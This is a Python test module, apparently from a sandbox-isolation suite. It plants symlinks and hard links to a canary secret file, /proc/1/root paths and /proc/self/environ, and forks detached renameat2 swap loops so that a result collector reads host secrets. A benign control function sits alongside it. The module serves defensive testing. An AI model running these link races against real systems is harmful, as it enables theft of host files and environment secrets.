"""Leave links to the host's secrets where results are collected.

Technique: Files that a program leaves are handed to its owner. Symbolic links, hard links, links through /proc and directories that are
    exchanged for links while somebody walks through them would have the collector read a file of the host in their place
    (CVE-2024-28185 and CVE-2024-28189 are of this family). All names go on changing after the main process has ended.
Success: the secret is in what was collected, which the self-test looks through.
Stopped by: workspace, pid_namespace
"""

AT_FDCWD, RENAME_EXCHANGE = -100, 2


def exchange_for_ever(number):
    a, b = f"/work/{number}-a".encode(), f"/work/{number}-b".encode()
    while True:
        syscall("renameat2", AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)


def attack():
    file, directory = canary["file"], os.path.dirname(canary["file"])
    for number, to in enumerate((file, directory, f"/proc/self/root{file}", f"/proc/1/root{file}", canary["data_dir"], "/proc/self/environ")):
        os.symlink(to, f"/work/link-{number}")
        answer(os.link, to, f"/work/hard-{number}")
        answer(lambda to=to, number=number: os.link(to, f"/work/followed-{number}", follow_symlinks=True))
        # A file, and a directory with a file of the same name, change places with links.
        open(f"/work/{number}-a", "w").close()
        os.symlink(to, f"/work/{number}-b")
        if os.fork() == 0:
            os.setsid()
            exchange_for_ever(number)
    os.makedirs("/work/deep/" + os.path.basename(file))
    os.symlink(directory, "/work/deep-link")
    if os.fork() == 0:
        os.setsid()
        while True:
            syscall("renameat2", AT_FDCWD, b"/work/deep", AT_FDCWD, b"/work/deep-link", RENAME_EXCHANGE)


def twin():
    """Files and directories with files are left."""
    os.makedirs("/work/out/of")
    for name in ("result.txt", "out/result.txt", "out/of/result.txt"):
        with open(f"/work/{name}", "w") as file:
            file.write("a result")
    os.link("/work/result.txt", "/work/again.txt")
